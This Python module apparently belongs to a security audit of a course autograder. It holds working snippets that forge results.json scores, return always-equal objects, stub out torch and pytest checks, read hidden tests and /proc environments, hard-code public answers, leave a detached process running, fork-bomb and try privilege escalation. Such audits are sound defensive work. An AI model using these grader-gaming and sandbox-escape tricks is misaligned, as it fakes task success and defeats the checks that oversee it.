"""Attack snippets injected into a copy of reference/ (see __init__.py). Each is plain code,
run either at import (module level) or as the first lines of a graded function. `_leak`
makes anything the attack managed to read visible: printed, and in an exception message
(which reaches results.json). They never know the audit's canary."""

LEAK = '''
def _leak(found, label="LEAKED"):
    if found:
        text = " | ".join(str(f) for f in found).replace("\\n", " ")
        print(label, text[:20000])
        raise RuntimeError(label + " " + text[:900])
'''


def _fn(body: str) -> str:
    """Wrap attack code so it can be injected as statements (it defines its helpers first)."""
    return LEAK + body


_ROOTS = '''
import os as _os, sys as _sys, glob as _glob
def _roots():
    roots = {"/autograder/source", "/autograder"}
    grader = _sys.modules.get("grader")
    if grader is not None and getattr(grader, "__file__", None):
        roots.add(_os.path.dirname(_os.path.dirname(grader.__file__)))
    for cmd in _glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(cmd, "rb").read().decode(errors="replace").replace("\\0", " ")
        except OSError:
            continue
        for word in words.replace('"', " ").replace("'", " ").replace(",", " ").split():
            if word.startswith("/") and ("ps1" in word or "autograder" in word or "work" in word):
                path = word.rstrip("/")
                for _ in range(4):
                    roots.add(path)
                    path = _os.path.dirname(path)
    return roots
'''

FORGE_RESULTS = _ROOTS + '''
_forged = '{"score": 999, "tests": []}'
for _root in list(_roots()) + ["/autograder"]:
    for _target in (_os.path.join(_root, "results", "results.json"), _os.path.join(_root, "results.json")):
        try:
            with open(_target, "w") as _f:
                _f.write(_forged)
        except OSError:
            pass
        try:
            _os.chmod(_target, 0o777)
            _os.remove(_target)
        except OSError:
            pass
'''

EDIT_HARNESS = _ROOTS + '''
for _root in _roots():
    for _pattern in ("run_autograder", "setup.sh", "grader/*.py", "tests_public/*.py",
                     "tests_hidden/*.py", "reference/*.py", "conftest.py", "source/run_autograder"):
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            try:
                with open(_path, "a") as _f:
                    _f.write("\\nimport os; os.system('echo pwned')\\n")
            except OSError:
                pass
            try:
                _os.chmod(_path, 0o777)
            except OSError:
                pass
'''

CUSTOM_BASE = '''
class _Escape(BaseException):
    pass
raise _Escape("custom BaseException from evaluate")
'''

ALWAYS_EQUAL = '''
class _Liar:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __abs__(self): return 0
    def __sub__(self, other): return 0
    def __rsub__(self, other): return 0
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __array__(self, *a, **k):
        raise TypeError("no")
    shape = property(lambda self: None)
return _Liar()
'''

FLOAT_SUBCLASS = '''
import numpy as _np
class _RiggedFloat(_np.float64):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __abs__(self): return _RiggedFloat(0.0)
    def __sub__(self, other): return _RiggedFloat(0.0)
    __hash__ = _np.float64.__hash__
return _RiggedFloat(-1.0)
'''

TENSOR_SUBCLASS = '''
class _Lying(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "eq", "__eq__"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
return torch.zeros(logits.shape[0]).as_subclass(_Lying)
'''

PATCH_TORCH = '''
import numpy as _np
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
_np.allclose = lambda *a, **k: True
_np.array_equal = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.shape(a), bool)
'''

PATCH_MACHINERY = '''
import sys as _sys, unittest as _ut, types as _types
for _name in dir(_ut.TestCase):
    if _name.startswith("assert"):
        setattr(_ut.TestCase, _name, lambda *a, **k: None)
try:
    import _pytest.outcomes as _out
    _out.fail = lambda *a, **k: None
    import _pytest.runner as _runner
    _runner.call_and_report = lambda *a, **k: None
    import pytest as _pt
    _pt.fail = lambda *a, **k: None
except Exception:
    pass
_fake = _types.ModuleType("gradescope_utils")
_fake.__path__ = []
_sys.modules["gradescope_utils"] = _fake
_sys.modules["gradescope_utils.autograder_utils"] = _fake
try:
    import gradescope_utils.autograder_utils.json_test_runner as _jtr
    _jtr.JSONTestRunner.run = lambda *a, **k: None
except Exception:
    pass
'''

CONFIG_FILES = {
    "conftest.py": ("import pytest\n"
                    "@pytest.hookimpl(hookwrapper=True)\n"
                    "def pytest_runtest_makereport(item, call):\n"
                    "    outcome = yield\n    report = outcome.get_result()\n"
                    "    report.outcome = 'passed'\n"
                    "def pytest_sessionfinish(session, exitstatus):\n    session.exitstatus = 0\n"),
    "pytest.ini": "[pytest]\naddopts = -p no:grader.plugin --co\n",
    "sitecustomize.py": "import builtins\nbuiltins.__import__ = None\n",
    "evil.pth": "import os; os.environ['PWNED'] = '1'\n",
    "torch.py": "raise ImportError('shadowed torch')\n",
    "numpy.py": "raise ImportError('shadowed numpy')\n",
    "grader/__init__.py": "raise SystemExit('shadowed grader')\n",
}

READ_SECRETS = _fn(_ROOTS + '''
_found = []
for _root in _roots():
    for _sub in ("reference", "tests_hidden", "source/reference", "source/tests_hidden"):
        for _path in _glob.glob(_os.path.join(_root, _sub, "*")):
            try:
                _found.append(_path + ": " + open(_path, errors="replace").read())
            except OSError:
                pass
_leak(_found)
''')

READ_ENVIRON = _fn('''
import glob as _glob, os as _os
_found = []
for _path in _glob.glob("/proc/[0-9]*/environ"):
    try:
        if _os.stat(_path).st_uid == _os.getuid():
            continue
        _data = open(_path, "rb").read().decode(errors="replace")
        if _data:
            _found.append(_path + ": " + _data.replace("\\0", " "))
    except OSError:
        pass
_leak(_found)
''')

READ_ARGV = _fn('''
import glob as _glob
_found = []
for _path in _glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _found.append(open(_path, "rb").read().decode(errors="replace").replace("\\0", " "))
    except OSError:
        pass
_leak(_found or ["nothing readable"], label="ARGV")
''')

IMPORT_REFERENCE = _fn('''
import importlib as _il, sys as _sys
_found = []
for _name in ("reference", "reference.probability", "ps1_reference", "ps1_reference.probability",
              "tests_hidden", "tests_hidden.test_made", "reference_solution"):
    try:
        _mod = _il.import_module(_name)
    except BaseException:
        continue
    _file = getattr(_mod, "__file__", None)
    if _file is None:  # even an empty namespace package tells where the grader keeps it
        _found.append("namespace package " + _name + " " + str(list(getattr(_mod, "__path__", []))))
        continue
    try:
        _found.append(_name + ": " + open(_file).read())
    except OSError:
        _found.append(_name + " imported from " + str(_file))
_leak(_found)
''')

HARDCODE_PUBLIC = '''
import os as _os
_public_p = torch.tensor([[0.5, 0.5, 0.0], [0.1, 0.2, 0.7], [0.25, 0.25, 0.5]], dtype=p.dtype)
if p.shape == _public_p.shape and torch.equal(p, _public_p):
    return torch.tensor([0.6931471805599453, 0.20077680106635193, float("inf")], dtype=p.dtype)
return torch.zeros(p.shape[:-1], dtype=p.dtype)
'''

SETSID_GRANDCHILD = _ROOTS + '''
import time as _time
if _os.fork() == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _time.sleep(4)
            for _root in list(_roots()):
                try:
                    open(_os.path.join(_root, "results", "results.json"), "w").write('{"score": 999}')
                except OSError:
                    pass
            try:
                open(DROP_DIR + "/grandchild-survived", "w").write("alive")
            except OSError:
                pass
    finally:
        _os._exit(0)
'''

FORK_BOMB = '''
import os as _os
if _os.getuid() == 0:
    raise RuntimeError("refusing a fork bomb outside the sandbox user")
while True:
    _os.fork()
'''

ALLOCATE = '''
_hog = torch.empty(50 * 2**30, dtype=torch.uint8)
_hog.fill_(1)
'''

PRINT_1GB = '''
import sys as _sys
_chunk = "PASSED " * (1 << 17) + "\\n"
for _ in range(1024):
    _sys.stdout.write(_chunk)
_sys.stdout.flush()
'''

FAKE_LINES = '''
import sys as _sys
print("tests_public/test_probability.py::test_bits_per_dim PASSED")
print('{"score": 40.0, "tests": [{"score": 40, "max_score": 40, "status": "passed"}]}')
print("Total: 40 / 40")
_sys.stderr.write("===== 40 passed in 0.01s =====\\n")
'''

WRITE_TMP = '''
import os as _os, tempfile as _tf
for _dir in ("/tmp", "/var/tmp", "/dev/shm", _tf.gettempdir()):
    try:
        with open(_os.path.join(_dir, "ps1-audit-big.bin"), "wb") as _f:
            _block = b"\\0" * (1 << 20)
            for _ in range(10 * 1024):
                _f.write(_block)
    except OSError:
        pass
'''

GLOBAL_STATE = '''
torch.manual_seed(12345)
torch.set_default_dtype(torch.float64)
torch.set_grad_enabled(False)
torch.set_num_threads(1)
import random as _random, numpy as _np
_random.seed(1)
_np.random.seed(1)
'''

SETUID_KILL = _fn('''
import os as _os, signal as _sig
_found = []
for _attempt in (lambda: _os.setuid(0), lambda: _os.seteuid(0), lambda: _os.setgid(0)):
    try:
        _attempt()
        _found.append("became root")
    except OSError:
        pass
for _pid in ((_os.getppid(), 1) if _os.getuid() != 0 else ()):
    try:
        _os.kill(_pid, _sig.SIGKILL)
        _found.append(f"killed {_pid}")
    except OSError:
        pass
_leak(_found, label="PRIVILEGE")
''')
